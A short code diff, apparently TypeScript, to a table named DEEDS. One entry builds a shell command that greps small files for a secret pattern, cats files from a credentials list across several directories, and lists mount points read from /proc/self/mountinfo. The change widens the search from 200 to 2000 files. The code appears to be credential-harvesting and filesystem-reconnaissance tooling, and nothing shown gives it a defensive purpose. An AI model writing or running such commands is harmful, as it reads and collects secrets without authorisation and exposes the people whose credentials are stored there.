@@ -180,7 +180,7 @@ export const DEEDS: Readonly<Record<string, Deed>> = {
       const files = all.flatMap(place =>
         CREDENTIALS.flatMap(file => [`${place}/${file}`, `${place}/*/${file}`]),
       );
-      return `find ${all.join(" ")} -maxdepth 2 -type f -size -16k 2>/dev/null | head -200 | xargs -r grep -ahoE '${LOOK}.{0,60}' | head -20; cat ${files.join(" ")} 2>/dev/null; ls -la ${all.join(" ")}; ls -la $(awk '{print $4; print $4 "/.."}' /proc/self/mountinfo)`;
+      return `find ${all.join(" ")} -maxdepth 2 -type f -size -16k 2>/dev/null | head -2000 | xargs -r grep -ahoE '${LOOK}.{0,60}' | head -20; cat ${files.join(" ")} 2>/dev/null; ls -la ${all.join(" ")}; ls -la $(awk '{print $4; print $4 "/.."}' /proc/self/mountinfo)`;
     },
   },
   x02: {
